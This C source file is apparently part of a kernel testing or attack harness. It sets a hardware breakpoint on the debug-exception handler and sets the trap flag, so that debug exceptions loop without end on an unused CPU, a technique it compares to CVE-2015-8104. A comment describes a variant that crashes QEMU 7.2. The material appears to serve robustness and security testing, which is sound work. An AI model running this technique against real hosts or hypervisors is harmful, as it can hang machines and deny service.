// SPDX-License-Identifier: GPL-2.0-or-later
/*
 * Exceptions that come again without end (compare CVE-2015-8104), on
 * a processor that Linux does not use: "loop_debug CPU", and "rogue_count"
 * for what has become of it. Called by main.c.
 */
#include "attack.h"
#include "rogue.h"

#include <linux/compiler.h>

#define EFLAGS_TRAP 0x100ul
#define DR7_EXECUTE 0x402ul /* breakpoint 0 */

static u64 beats;

/*
 * A breakpoint on the first instruction of the #DB handler: it never gets
 * there. (One on the stack slot that delivery writes to, as in the CVE, ends
 * QEMU 7.2 itself: it takes a lock twice.)
 */
static void loop_debug(void)
{
	asm volatile("mov %0, %%dr0; mov %1, %%dr7"
		     :
		     : "r"(rogue_debug), "r"(DR7_EXECUTE));
	asm volatile("pushfq; orq %0, (%%rsp); popfq; nop"
		     :
		     : "i"(EFLAGS_TRAP)
		     : "memory", "cc");
	for (;;) {
		WRITE_ONCE(beats, beats + 1);
	}
}

void attack_loop_debug(const struct command *command)
{
	beats = 0;
	rogue_debugs = 0;
	if (rogue_run((unsigned int)command_number(command, 1), loop_debug) ==
	    0) {
		say("succeeded");
	} else {
		say("the processor is busy");
	}
}

void attack_rogue_count(const struct command *command)
{
	say("%llu exceptions, %llu beats", READ_ONCE(rogue_debugs),
	    READ_ONCE(beats));
}
